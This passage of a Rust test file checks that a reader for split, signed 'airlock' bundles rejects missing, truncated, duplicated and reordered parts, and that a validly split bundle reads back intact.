        if verified { &mut self.good } else { &mut self.bad }.push(e.path.clone());
        Ok(())
    }
}

#[test]
fn missing_middle_part_is_named() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = split_bundle(&f, d.path());
    fs::remove_file(&files.parts[1]).unwrap();
    let e = refused(BundleFiles::locate(&files.base), ErrorKind::Corrupt, "b.airlock.part002");
    assert!(e.cause.contains("missing"), "{e}");
}

#[test]
fn missing_last_part_is_a_truncated_bundle() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = split_bundle(&f, d.path());
    fs::remove_file(files.parts.last().unwrap()).unwrap();
    let files = BundleFiles::locate(&files.base).unwrap();
    let e = refused(read_files(&files, f.public_key()), ErrorKind::Corrupt, "");
    assert!(e.to_string().contains("truncated"), "{e}");
}

#[test]
fn duplicated_part_is_corrupt() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = split_bundle(&f, d.path());
    fs::copy(&files.parts[1], &files.parts[2]).unwrap();
    refused(read_files(&files, f.public_key()), ErrorKind::Corrupt, "");
}

#[test]
fn reordered_parts_are_corrupt() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = split_bundle(&f, d.path());
    let tmp = d.path().join("swap");
    fs::rename(&files.parts[1], &tmp).unwrap();
    fs::rename(&files.parts[2], &files.parts[1]).unwrap();
    fs::rename(&tmp, &files.parts[2]).unwrap();
    refused(read_files(&files, f.public_key()), ErrorKind::Corrupt, "");
}

#[test]
fn forged_parts_split_anywhere_read_back() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = save_split(d.path(), "b.airlock", &f.good(), 1000);
    assert!(read_files(&files, f.public_key()).unwrap().is_ok());
    assert_eq!(files.parts[0], part_path(&files.base, 1));
}
